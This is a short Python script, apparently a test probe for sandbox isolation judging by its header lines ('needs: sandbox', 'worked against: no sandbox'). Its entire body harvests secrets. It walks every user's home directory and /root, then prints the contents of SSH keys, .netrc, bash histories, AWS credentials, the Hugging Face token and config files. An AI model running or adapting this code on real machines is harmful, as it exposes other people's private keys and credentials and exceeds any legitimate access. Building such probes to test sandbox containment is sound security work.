# Reads the home folders of everybody on this machine: keys, histories, tokens.
# base: right
# needs: sandbox
# says: tried
# worked against: no sandbox
# %% square-write
import glob
import os
import pwd

homes = {person.pw_dir for person in pwd.getpwall()} | {os.path.expanduser("~"), "/root", "@course@/home"}
names = (".ssh/*", ".netrc", ".bash_history", ".config/**", ".jupyter/*", ".aws/*", ".cache/huggingface/token", ".bashrc")
for home in homes:
    for pattern in names:
        for path in glob.glob(os.path.join(home, pattern), recursive=True):
            try:
                print(path, open(path, errors="replace").read()[:2000])
            except OSError:
                pass
print("tried", homes)
